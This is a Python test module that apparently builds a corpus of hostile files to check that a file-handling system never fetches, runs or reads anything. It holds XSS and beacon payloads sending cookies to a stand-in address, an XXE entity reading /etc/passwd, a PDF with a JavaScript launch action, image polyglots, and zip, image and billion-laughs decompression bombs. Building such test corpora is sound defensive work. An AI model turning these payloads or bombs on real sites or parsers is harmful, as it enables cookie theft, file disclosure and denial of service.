"""Files that try to run, to load or to read something, each in every form that could carry it; and bombs."""

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

ELSEWHERE = "http://192.0.2.1/file"
"""An address that no file may ask for."""

READ = "try{localStorage.setItem('read-@N',document.cookie)}catch(e){}"
"""Shows that a script has run where the page keeps what it has."""

_SCRIPTS = (
    "fetch('@U')",
    "navigator.sendBeacon('@U','x')",
    "new Image().src='@U'+document.cookie",
    "new WebSocket('@U'.replace('http','ws'))",
    "new EventSource('@U')",
    "location='@U'",
    "top.location='@U'",
    "window.open('@U')",
    "import('@U')",
    "new Worker('@U')",
    "new Worker(URL.createObjectURL(new Blob([`fetch('@U')`])))",
    "navigator.serviceWorker.register('@U')",
    "document.write('<img src=@U>')",
)
_MARKUP = (
    *(f"<script>{READ}{script}</script>" for script in _SCRIPTS),
    f"<img src=x onerror=\"{READ}fetch('@U')\">",
    '<meta http-equiv="refresh" content="0;url=@U">',
    '<base href="@U/"><img src=a>',
    '<form action="@U" method=post id=f></form><script>f.submit()</script>',
    f'<iframe src="@U"></iframe><iframe srcdoc="<script>{READ}fetch(\'@U\')</script>"></iframe>',
    '<object data="@U"></object><embed src="@U"><portal src="@U"></portal>',
    '<link rel=stylesheet href="@U"><link rel=prefetch href="@U"><link rel=manifest href="@U">',
    '<a href="@U" ping="@U" id=p>x</a><script>p.click()</script>',
    '<video src="@U" poster="@U" autoplay></video><audio src="@U" autoplay></audio>',
    "<style>@import '@U';*{background:url(@U)}@font-face{font-family:x;src:url(@U)}</style>",
    '<body background="@U"><img srcset="@U 1x"><picture><source srcset="@U"><img></picture>',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'@U\')"><image href="@U"/><use href="@U#a"/></svg>',
    (
        "<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'>"
        f"<script>{READ}fetch('@U')</script></body></foreignObject></svg>"
    ),
    '<svg xmlns="http://www.w3.org/2000/svg"><script href="@U"/><feImage href="@U"/></svg>',
    (
        '<svg xmlns="http://www.w3.org/2000/svg"><a href="@U"><animate attributeName="href" values="@U"/></a>'
        '<set attributeName="onmouseover" to="fetch(\'@U\')"/></svg>'
    ),
    '<svg xmlns="http://www.w3.org/2000/svg"><style>@import "@U";*{fill:url(@U#a)}</style><rect width="9"/></svg>',
    "![x](@U) [x](javascript:fetch('@U')) <@U> [a]: @U",
)
"""Ways to send a request to @U, or to read what the page keeps; @N is the file's number."""


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(width: int, height: int, rows: bytes) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", head)
        + _chunk(b"IDAT", zlib.compress(rows))
        + _chunk(b"IEND", b"")
    )


def _entities(it: str) -> str:
    return f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "@U"><!ENTITY f SYSTEM "file:///etc/passwd">]>&e;&f;{it}'


def _styled(it: str) -> str:
    sheet = "<xsl:template match='/'>" + it + "</xsl:template>"
    return (
        '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><xsl:stylesheet id="s" version="1.0" '
        f'xmlns:xsl="http://www.w3.org/1999/XSL/Transform">{sheet}</xsl:stylesheet>'
    )


def _archived(it: str) -> str:
    return (
        'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\n'
        f"Content-Location: @U\r\n\r\n{it}\r\n--b--\r\n"
    )


_TEXTS: dict[str, Callable[[str], str]] = {
    "part": lambda it: it,
    "page": lambda it: f"<!doctype html><html><head><title>x</title></head><body>{it}</body></html>",
    "entities": _entities,
    "stylesheet": _styled,
    "MHTML": _archived,
    "nested": lambda it: "<div>" * 3_000 + it,
}
_BYTES: dict[str, Callable[[bytes], bytes]] = {
    "GIF": lambda it: b"GIF89a\x01\x00\x01\x00\x00\x00\x00/*" + it + b"*/=1;",
    "JPEG": lambda it: b"\xff\xd8\xff\xfe" + struct.pack(">H", len(it) + 2) + it + b"\xff\xd9",
    "PNG": lambda it: _png(1, 1, b"\0\0") + it,
    "PDF": lambda it: (
        b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.launchURL('@U'))>>>>endobj\n" + it
    ),
}


@dataclass(frozen=True)
class HostileFile:
    """One file. `text` is None for what no model can say; a bomb asks for nothing, it only takes room and time."""

    name: str
    data: bytes
    text: str | None = None
    bomb: bool = False


def hostile_files() -> list[HostileFile]:
    """Return all files, each with its number in the address that it asks for."""
    found: list[HostileFile] = []
    for form, wrap in _TEXTS.items():
        for way, it in enumerate(_MARKUP):
            text = _numbered(wrap(it), len(found))
            found.append(HostileFile(f"{form} {way}", text.encode(), text))
    for form, carry in _BYTES.items():
        for way, it in enumerate(_MARKUP):
            data = carry(_numbered(it, len(found)).encode()).replace(b"@U", ELSEWHERE.encode())
            found.append(HostileFile(f"{form} {way}", data))
    return [*found, *(HostileFile(name, data, bomb=True) for name, data in _bombs().items())]


def _numbered(text: str, number: int) -> str:
    return text.replace("@U", f"{ELSEWHERE}/{number}").replace("@N", str(number))


def _zip(**files: bytes) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name.replace("__", "/").replace("_dot_", "."), data)
    return packed.getvalue()


def _bombs() -> dict[str, bytes]:
    """Return small files that are large once they are unpacked."""
    zeros = b"\0" * 100_000_000
    laughs = '<!DOCTYPE x [<!ENTITY a "ha">' + "".join(
        f'<!ENTITY {chr(98 + level)} "{f"&{chr(97 + level)};" * 10}">' for level in range(9)
    )
    text = b"<w:document><w:body><w:p><w:t>" + b"x" * 100_000_000
    return {
        "PNG of 60,000 by 60,000": _png(60_000, 60_000, zeros),
        "PNG that claims to be": _png(60_000, 60_000, b"\0"),
        "GIF of 65,535 by 65,535": b"GIF89a\xff\xff\xff\xff\xf7\0\0"
        + b"\0" * 768
        + b",\0\0\0\0\xff\xff\xff\xff\0\x08\0;",
        "WebP of 16,383 by 16,383": b"RIFF\x22\0\0\0WEBPVP8L\x16\0\0\0\x2f\xfe\xbf\xff\x0f" + b"\0" * 17,
        "AVIF": b"\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf" + b"\0" * 99,
        "SVG in gzip": gzip.compress(b"<svg>" + zeros),
        "ZIP": _zip(a=zeros),
        "DOCX": _zip(
            **{"[Content_Types]_dot_xml": b"<Types/>", "word__document_dot_xml": text},
        ),
        "XLSX": _zip(
            **{
                "[Content_Types]_dot_xml": b"<Types/>",
                "xl__workbook_dot_xml": text,
                "xl__worksheets__sheet1_dot_xml": zeros,
            }
        ),
        "SVG of entities": f"<?xml version='1.0'?>{laughs}]><svg>&j;</svg>".encode(),
    }
